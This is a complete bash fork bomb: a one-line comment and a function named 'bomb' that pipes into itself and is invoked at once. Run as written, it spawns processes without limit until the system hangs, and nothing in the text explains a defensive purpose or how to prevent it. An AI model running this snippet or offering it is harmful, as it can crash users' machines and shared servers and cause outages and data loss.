# Every process starts two that do the same.
bomb() { bomb | bomb; }
bomb
